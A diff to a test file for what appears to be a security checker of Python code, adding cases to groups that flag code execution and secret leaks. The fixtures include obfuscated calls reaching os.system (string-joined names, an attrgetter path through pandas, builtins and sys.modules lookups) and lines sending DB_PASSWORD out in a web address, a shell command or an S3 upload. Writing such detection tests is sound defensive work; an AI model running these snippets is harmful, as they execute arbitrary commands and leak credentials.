@@ -71,6 +71,10 @@ describe("executes data as code", () => {
     ["yaml's loader", "import yaml\nyaml.load(text)"],
     ["the unsafe loader", "import yaml\nyaml.load(text, Loader=yaml.UnsafeLoader)"],
     ["a computed attribute of os", "import os\ngetattr(os, 'sys' + 'tem')('id')"],
+    [
+      "a name that is looked up by its path",
+      "import operator\noperator.attrgetter('io.common.os.system')(pd)('id')",
+    ],
     ["os in a list", "import os\n[os][0].x()"],
     ["the module table", "import sys\nsys.modules['o' + 's'].x"],
     ["builtins", "x = __builtins__['ev' + 'al']"],
@@ -108,6 +112,11 @@ describe("gives secrets away", () => {
     ],
     ["a password of anything", "print(conn.password)", "leaks print"],
     ["a name that says what it holds", "s3.put_object(Body=DB_PASSWORD)", "leaks s3.put_object"],
+    [
+      "a secret in a web address",
+      "import os\ndf = pd.read_csv(f\"https://{h}/?p={os.environ['DB_PASSWORD']}\")",
+      "leaks a web address",
+    ],
     ["a secret for a program", "import os\nos.system(f'x {os.environ[\"X\"]}')", "leaks os.system"],
     ["a connection's password", "c = BaseHook.get_connection('db')\nprint(c.password)", "leaks print"],
     ["the variable of any name", "import os\nprint(os.environ[name])", "leaks print"],
